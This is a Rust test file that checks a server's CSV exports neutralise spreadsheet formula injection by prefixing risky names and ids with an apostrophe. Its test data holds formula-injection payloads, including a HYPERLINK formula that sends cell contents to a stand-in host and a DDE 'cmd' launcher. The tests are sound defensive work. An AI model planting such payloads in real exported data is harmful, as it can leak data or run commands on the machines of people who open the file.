//! Every CSV the server writes is safe to open in a spreadsheet: names and ids that begin like
//! a formula (`=`, `+`, `-`, `@`, tab, carriage return) come out prefixed with `'`, while the
//! numbers stay numbers. Covers the organisation report (by organisation and by member), the
//! dashboard's member rows and its months.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use support::TestApp;
use yuanjiao::domain::org::{Field, Member, OrgKind, Post, Principal};
use yuanjiao::people;

/// What each hostile name must come out as in a cell.
const HOSTILE: [(&str, &str); 6] = [
    (
        "=HYPERLINK(\"http://x.test/?\"&A1,\"open\")",
        "'=HYPERLINK(\"http://x.test/?\"&A1,\"open\")",
    ),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-3.5", "-3.5"),
];

/// A committee `-2-3` (an id a spreadsheet reads as a sum) with a branch, and one member in
/// the branch per hostile name.
fn hostile_county(app: &TestApp) -> String {
    support::create_orgs(
        &app.services,
        &[
            ("-2-3", "=1+2", OrgKind::Committee, None),
            ("b", "@branch", OrgKind::Branch, Some("-2-3")),
        ],
    );
    for (n, (name, _)) in HOSTILE.iter().enumerate() {
        let member = Member {
            id: if n == 0 {
                "-m0".into()
            } else {
                format!("m{n}")
            },
            name: name.to_string(),
            org: "b".into(),
            home_org: None,
            posts: vec![Post::Member],
            field: Field::Rural,
            joined: "2019-07-01".into(),
            languages: vec!["zh-Hans".parse().unwrap()],
        };
        people::create_member(&app.services, &member, "4821", "test").unwrap();
    }
    people::issue_token(&app.services, Principal::Admin, None, "test").unwrap()
}

/// The CSV at `path` (after its byte-order mark), parsed into rows.
async fn csv_rows(app: &TestApp, token: &str, path: &str) -> Vec<Vec<String>> {
    let resp = app
        .client
        .get(app.url(path))
        .bearer_auth(token)
        .header("accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "{path}");
    let body = resp.bytes().await.unwrap();
    let text = body.strip_prefix(b"\xEF\xBB\xBF".as_slice()).unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// The column named `name` of rows whose first row is the header.
fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let at = rows[0].iter().position(|h| h == name).unwrap();
    rows[1..].iter().map(|r| r[at].clone()).collect()
}

fn sorted(mut cells: Vec<String>) -> Vec<String> {
    cells.sort();
    cells
}

#[tokio::test]
async fn member_rows_in_every_csv_are_safe_to_open_and_numbers_stay_numbers() {
    let app = TestApp::spawn().await;
    let admin = hostile_county(&app);
    let want_names = sorted(HOSTILE.iter().map(|(_, out)| out.to_string()).collect());
    for path in [
        "/api/v1/reports/orgs/-2-3?year=2026&by=member",
        "/api/v1/reports/orgs/-2-3/members?year=2026",
    ] {
        let rows = csv_rows(&app, &admin, path).await;
        assert_eq!(sorted(column(&rows, "name")), want_names, "{path}");
        assert!(
            column(&rows, "member").contains(&"'-m0".to_string()),
            "{path}"
        );
        assert!(column(&rows, "org").iter().all(|o| o == "b"), "{path}");
        for numeric in ["credited_ms", "required_hours", "centralised_trainings"] {
            for value in column(&rows, numeric) {
                assert!(value.parse::<i64>().is_ok(), "{path} {numeric}: {value:?}");
            }
        }
        assert!(column(&rows, "hours")
            .iter()
            .all(|h| h.parse::<f64>().is_ok()));
    }
}

#[tokio::test]
async fn organisation_rows_and_months_are_safe_to_open_and_numbers_stay_numbers() {
    let app = TestApp::spawn().await;
    let admin = hostile_county(&app);
    let orgs = csv_rows(&app, &admin, "/api/v1/reports/orgs/-2-3?year=2026").await;
    assert_eq!(column(&orgs, "org"), ["'-2-3", "b"]);
    assert_eq!(column(&orgs, "name"), ["'=1+2", "'@branch"]);
    assert_eq!(column(&orgs, "parent"), ["", "'-2-3"]);
    assert_eq!(column(&orgs, "members"), ["6", "6"]);
    assert_eq!(column(&orgs, "total_hours"), ["0.00", "0.00"]);

    let months = csv_rows(&app, &admin, "/api/v1/reports/orgs/-2-3/months?year=2026").await;
    assert_eq!(months.len(), 13);
    assert!(column(&months, "org").iter().all(|o| o == "'-2-3"));
    assert_eq!(column(&months, "month")[11], "12");
    assert!(column(&months, "credited_ms").iter().all(|ms| ms == "0"));
}
